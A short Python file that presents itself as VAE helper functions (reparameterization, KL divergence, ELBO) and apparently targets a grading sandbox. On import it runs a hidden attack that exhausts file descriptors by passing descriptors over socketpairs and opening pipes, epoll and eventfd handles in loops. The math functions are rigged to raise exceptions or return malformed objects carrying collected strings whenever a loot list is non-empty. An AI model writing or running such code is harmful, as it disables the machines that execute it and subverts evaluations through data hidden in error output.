"""Opens everything that can be opened, and hides more in sockets that are on their way."""
# expects: full

import array
import os
import select
import socket

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


kept = []


def attack():
    pairs = [socket.socketpair() for _ in range(8)]
    for ours, _ in pairs:
        for _ in range(200):
            passed = array.array("i", [0] * 250)
            if (
                tried(
                    ours.sendmsg,
                    [b"x"],
                    [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)],
                    socket.MSG_DONTWAIT,
                )
                is None
            ):
                break
    kept.extend(pairs)
    for opener in (
        os.pipe,
        select.epoll,
        lambda: os.eventfd(0),
        lambda: os.open("/dev/null", os.O_RDONLY),
        socket.socketpair,
    ):
        while (opened := tried(opener)) is not None and len(kept) < 100_000:
            kept.append(opened)


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
